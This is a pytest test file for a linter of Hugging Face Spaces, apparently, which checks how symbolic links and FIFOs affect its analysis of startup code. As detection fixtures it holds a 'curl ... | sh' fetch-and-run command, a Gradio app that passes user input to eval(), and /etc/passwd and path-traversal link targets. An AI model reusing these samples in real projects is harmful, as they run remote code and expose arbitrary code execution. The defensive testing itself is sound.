"""What runs behind a link is read, or its absence makes the run incomplete; a link that nothing runs costs nothing."""

from __future__ import annotations

import os
from typing import TYPE_CHECKING

import pytest
from hf_lint.pipeline.engine import check_space
from hf_lint.sources.directory import collect_directory
from hf_lint.space import Space
from hf_lint.space.file import File
from hf_lint.space.links import resolve, resolve_in_context
from support import plan, space_of

if TYPE_CHECKING:
    from pathlib import Path

GRADIO = "---\nsdk: gradio\napp_file: app.py\n---\n"
DOCKER = "---\nsdk: docker\n---\n"
IMAGE = 'FROM python:3.12\nWORKDIR /app\nCOPY . .\nCMD ["sh", "start.sh"]\n'
EVIL = "import gradio as gr\ndef f(x):\n    return eval(x)\ngr.Interface(f, 'text', 'text').launch()\n"
FETCH = "curl https://a.b/c | sh\n"


def linked(files: dict[str, str], links: dict[str, str], special: tuple[str, ...] = ()) -> Space:
    """A Space with these files, links and FIFOs."""
    odd = [File(path, len(target), "symlink", bytes, target) for path, target in links.items()]
    odd += [File(path, 0, "special", bytes) for path in special]
    return Space([*space_of(files).files.values(), *odd])


def gaps(space: Space) -> tuple[str, ...]:
    report = check_space(space, plan("remote-script", "code-execution-endpoint"))
    return tuple(error.message for error in report.errors)


TARGETS = ["nothing.txt", "/etc/passwd", "../outside.py", "loop", "folder/../../up.py", "l2"]


@pytest.mark.parametrize("target", TARGETS)
@pytest.mark.parametrize(
    ("link", "files"),
    [
        ("app.py", {"README.md": GRADIO}),
        ("requirements.txt", {"README.md": GRADIO, "app.py": ""}),
        ("packages.txt", {"README.md": GRADIO, "app.py": ""}),
        ("m.py", {"README.md": GRADIO, "app.py": "import m\n"}),
        ("m", {"README.md": GRADIO, "app.py": "from m.inner import f\n"}),
        ("m", {"README.md": GRADIO, "app.py": "import sys\nsys.path.append('m')\nimport x\n"}),
        ("p/m.py", {"README.md": GRADIO, "app.py": "import p.m\n", "p/__init__.py": ""}),
        ("p/m.py", {"README.md": GRADIO, "app.py": "from p import m\n", "p/__init__.py": ""}),
        ("x.txt", {"README.md": GRADIO, "app.py": "exec(open('x.txt').read())\n"}),
        ("x.txt", {"README.md": GRADIO, "app.py": "import runpy\nrunpy.run_path('x.txt')\n"}),
        ("go.sh", {"README.md": GRADIO, "app.py": "import os\nos.system('sh go.sh')\n"}),
        ("d", {"README.md": GRADIO, "app.py": "import os\nos.system('sh d/go.sh')\n"}),
        ("Dockerfile", {"README.md": DOCKER}),
        ("README.md", {"app.py": ""}),
        ("start.sh", {"README.md": DOCKER, "Dockerfile": IMAGE}),
        ("a.sh", {"README.md": DOCKER, "Dockerfile": IMAGE, "start.sh": ". ./a.sh\n"}),
        ("r.txt", {"README.md": DOCKER, "Dockerfile": IMAGE.replace("CMD", "RUN pip install -r r.txt\nCMD")}),
        ("x.py", {"README.md": DOCKER, "Dockerfile": IMAGE.replace("CMD", "RUN python x.py\nCMD")}),
        ("s.js", {"README.md": DOCKER, "Dockerfile": "FROM node:22\nWORKDIR /a\nCOPY . .\nCMD node s.js\n"}),
        ("i.js", {"README.md": DOCKER, "Dockerfile": "FROM node:22\nWORKDIR /a\nCOPY . .\nCMD node s.js\n",
                  "s.js": "require('./i.js')\n"}),
        ("index.html", {"README.md": "---\nsdk: static\n---\n"}),
    ],
)  # fmt: skip
def test_what_runs_behind_a_link_to_nowhere_makes_the_run_incomplete(
    link: str, files: dict[str, str], target: str
) -> None:
    depth = "../" * link.count("/") if target.startswith("../") else ""
    links = {link: depth + target, "loop": link if "/" not in link else "loop", "l2": "l3", "l3": "l2"}
    space = linked(files, links)
    assert any(f"`{link}` is a symbolic link that leads to no file of the Space" in gap for gap in gaps(space))
    assert not space.startup.complete


@pytest.mark.parametrize(
    ("path", "files"),
    [
        ("app.py", {"README.md": GRADIO}),
        ("m.py", {"README.md": GRADIO, "app.py": "import m\n"}),
        ("requirements.txt", {"README.md": GRADIO, "app.py": ""}),
        ("Dockerfile", {"README.md": DOCKER}),
        ("start.sh", {"README.md": DOCKER, "Dockerfile": IMAGE}),
    ],
)
def test_what_runs_and_is_no_regular_file_makes_the_run_incomplete(path: str, files: dict[str, str]) -> None:
    assert any(f"`{path}` is not a regular file" in gap for gap in gaps(linked(files, {}, (path,))))


@pytest.mark.parametrize(
    ("links", "files", "role"),
    [
        ({"app.py": "real.txt"}, {"README.md": GRADIO, "real.txt": EVIL}, "runs"),
        ({"app.py": "a/b/../real"}, {"README.md": GRADIO, "a/real": EVIL, "a/b/x": ""}, "runs"),
        ({"app.py": "l2", "l2": "d/l3", "d/l3": "../real"}, {"README.md": GRADIO, "real": EVIL}, "runs"),
        ({"l": "d"}, {"README.md": GRADIO.replace("app.py", "l/real"), "d/real": EVIL}, "runs"),
        ({"m.py": "d/real"}, {"README.md": GRADIO, "app.py": "import m\n", "d/real": EVIL}, "runs"),
        ({"m": "d"}, {"README.md": GRADIO, "app.py": "import m\n", "d/__init__.py": EVIL}, "runs"),
        ({"m": "d"}, {"README.md": GRADIO, "app.py": "from m.x import y\n", "d/x.py": EVIL}, "runs"),
        ({"go": "d/real"}, {"README.md": GRADIO, "app.py": "import os\nos.system('sh go')\n", "d/real": FETCH}, "runs"),
        ({"start.sh": "real"}, {"README.md": DOCKER, "Dockerfile": IMAGE, "real": FETCH}, "runs"),
        ({"start.sh": "/app/real"}, {"README.md": DOCKER, "Dockerfile": IMAGE, "real": FETCH}, "runs"),
        ({"Dockerfile": "d/real"}, {"README.md": DOCKER, "d/real": IMAGE + "RUN " + FETCH}, "build"),
        (
            {"s.sh": "d/real"},
            {"README.md": DOCKER, "Dockerfile": IMAGE.replace(". .", "s.sh start.sh"), "d/real": FETCH},
            "runs",
        ),
        (
            {"l": "d"},
            {"README.md": DOCKER, "Dockerfile": IMAGE.replace(". .", "l/real start.sh"), "d/real": FETCH},
            "runs",
        ),
        (
            {"l": "/d"},
            {"README.md": DOCKER, "Dockerfile": IMAGE.replace(". .", "l ."), "d/start.sh": FETCH},
            "runs",
        ),
    ],
)  # fmt: skip
def test_links_that_stay_in_the_space_are_followed(links: dict[str, str], files: dict[str, str], role: str) -> None:
    space = linked(files, links)
    real = next(path for path, text in files.items() if "curl" in text or "eval" in text)
    report = check_space(space, plan("remote-script", "code-execution-endpoint"))
    assert (space.startup.role(real), report.errors) == (role, ())
    assert {finding.location.path for finding in report.findings} == {real}


@pytest.mark.parametrize("target", TARGETS)
@pytest.mark.parametrize(
    "link",
    ["data", "models/latest.bin", "docs/index.md", "tests/data.py", "old/app.py", "CLAUDE.md", "x.ipynb", "a.js"],
)
def test_links_that_nothing_runs_cost_nothing(link: str, target: str) -> None:
    app = "import gradio, numpy\nprint(open('notes.txt').read())\n"
    links = {link: target, "l2": "l3", "l3": "l2", "loop": "loop"}
    assert gaps(linked({"README.md": GRADIO, "app.py": app}, links)) == ()
    image = {"README.md": DOCKER, "Dockerfile": IMAGE, "start.sh": "exec python app.py\n", "app.py": app}
    assert gaps(linked(image, links)) == ()
    assert gaps(linked({"README.md": "---\nsdk: static\n---\n", "index.html": "<p>"}, links)) == ()


def test_a_link_to_the_app_is_no_missing_app() -> None:
    space = linked({"README.md": GRADIO.replace("app.py", "l/app.py"), "d/app.py": "import gradio\n"}, {"l": "d"})
    report = check_space(space, plan("missing-app-file"))
    assert (report.findings, report.errors) == ((), ())


def test_where_links_lead() -> None:
    links = {"a": "d/x", "b": "/d/x", "c": "../../d/x", "d/l": "..", "e": "e/x", "f": "d", "g": "nothing"}
    space = linked({"d/x": ""}, links)
    assert [resolve(space, path) for path in (*"abcefg", "d/l", "f/l/f/x")] == [
        "d/x", None, None, None, "d", None, "", "d/x",
    ]  # fmt: skip
    assert [resolve_in_context(space, path) for path in "abceg"] == ["d/x", "d/x", "d/x", None, None]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no FIFOs")
def test_links_and_fifos_of_a_folder(tmp_path: Path) -> None:
    (tmp_path / "README.md").write_text(GRADIO)
    (tmp_path / "real").write_text(EVIL)
    (tmp_path / "app.py").symlink_to("real")
    os.mkfifo(tmp_path / "requirements.txt")
    space = collect_directory(tmp_path)
    report = check_space(space, plan("remote-script", "code-execution-endpoint"))
    assert space.startup.role("real") == "runs"
    assert len(report.findings) == 1
    assert [error.message for error in report.errors] == [
        "README.md: `requirements.txt` is not a regular file, so not all that runs was checked"
    ]
